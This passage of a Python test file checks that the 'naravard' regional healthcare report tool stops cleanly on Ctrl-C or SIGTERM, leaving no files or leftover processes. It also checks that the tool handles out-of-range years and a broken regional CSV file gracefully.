        assert proc.poll() is None, "the run ended before it could be interrupted"
    else:
        time.sleep(when)
    if group:  # as a terminal's Ctrl-C: the whole process group
        os.killpg(proc.pid, sig)
    else:
        proc.send_signal(sig)
    try:
        _, err = proc.communicate(timeout=180)
    except subprocess.TimeoutExpired:
        proc.kill()
        pytest.fail("the run did not stop after the signal")
    return proc.returncode, err


def _processes_of(root: Path) -> list[int]:
    """Processes still running with this test's NARAVARD_ROOT: kernels, workers (Linux)."""
    marker = f"NARAVARD_ROOT={root}".encode()
    found = []
    for environ in Path("/proc").glob("[0-9]*/environ"):
        try:
            if marker in environ.read_bytes().split(b"\0"):
                found.append(int(environ.parent.name))
        except OSError:  # gone meanwhile, or not ours to read
            continue
    return found


def _assert_stopped_cleanly(root: Path, code: int, err: str, expected: int) -> None:
    assert "Traceback" not in err and "Error" not in err, err[-3000:]
    # naravard returns 130/143; under heavy load the interpreter has been seen to end by the
    # signal itself (-2) after printing its line, which is as non-zero and as clean
    assert code in (expected, -(expected - 128)), err[-3000:]
    assert err.splitlines() == ["avbrutet; ingen rapport ändrades"]
    # the signal came while the notebook ran: nothing was published, nothing is left
    assert [p for p in root.rglob("*") if p.is_file()] == []
    assert [p for p in root.rglob(".*")] == []  # no staging or trash folder
    deadline = time.monotonic() + 10  # a kernel gets a moment to exit after being told
    while _processes_of(root) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _processes_of(root) == []


@pytest.mark.e2e
@pytest.mark.parametrize(("sig", "when"), [("SIGINT", 1.5), ("SIGINT", "chart"),
                                           ("SIGTERM", "chart")])
def test_11_13_an_interrupted_report_is_one_line_and_leaves_nothing(tmp_path, snapshot_dir,
                                                                    sig, when):
    import signal

    args = ["report", "--region", "Gotland", "--year", "2024", "--data", str(snapshot_dir)]
    code, err = _interrupt(tmp_path, args, getattr(signal, sig), when, group=sig == "SIGINT")
    _assert_stopped_cleanly(tmp_path, code, err, 143 if sig == "SIGTERM" else 130)


@pytest.mark.e2e
def test_11_ctrl_c_during_make_reports_is_one_line_and_stops_the_workers(tmp_path, snapshot_dir):
    """Ctrl-C reaches the whole process group: the workers stop their reports at once (they
    used to finish and publish them), and no kernel or partial notebook is left."""
    import signal

    args = ["reports", "--year", "2024", "--regions", "Gotland", "--no-national", "--jobs", "1",
            "--force", "--data", str(snapshot_dir)]
    code, err = _interrupt(tmp_path, args, signal.SIGINT, "chart", group=True)
    _assert_stopped_cleanly(tmp_path, code, err, 130)


# --- 14. weak spots ---------------------------------------------------------------------------------

def test_14_years_outside_the_range_in_a_snapshot_are_left_out_with_a_note(tmp_path,
                                                                           project_tmp):
    from naravard.sources.table import clear_memo, load_observations

    clear_memo()
    snap = _tiny_snapshot(tmp_path / "snap", [("N79173", "0001", 1999, 60.0),
                                              ("N79173", "0001", 2023, 70.0),
                                              ("N79173", "0009", 2023, 72.0)])
    obs = load_observations(snap)
    assert 1999 not in obs.years() and 2023 in obs.years()
    assert any("1999" in note and "togs inte med" in note for note in obs.notes)


def test_14_another_regions_broken_file_does_not_block_a_report(tmp_path, project_tmp,
                                                                monkeypatch, capsys):
    import shutil

    from naravard.core.paths import repo_root

    regional_copy = tmp_path / "regional"
    shutil.copytree(repo_root() / "data" / "regional", regional_copy)
    (regional_copy / "orebro-lan.csv").write_text(HEADER + '\nfast_lakarkontakt_andel;"2024\n',
                                                  encoding="utf-8")
    monkeypatch.setenv("NARAVARD_REGIONAL_DIR", str(regional_copy))
    snap = _tiny_snapshot(tmp_path / "snap", [("N79173", "0001", 2023, 70.0),
                                              ("N79173", "0024", 2023, 72.0)])
    # YEAR=2030 fails after the data has loaded, before anything renders
    code, err = _cli(capsys, "report", "--region", "Västerbotten", "--year", "2030",
                     "--data", str(snap))
    assert code == 2 and "YEAR=2030" in err and "orebro-lan.csv" not in err
    code, err = _cli(capsys, "report", "--region", "Örebro län", "--year", "2030",
                     "--data", str(snap))
    assert code == 2 and "orebro-lan.csv rad 2" in err
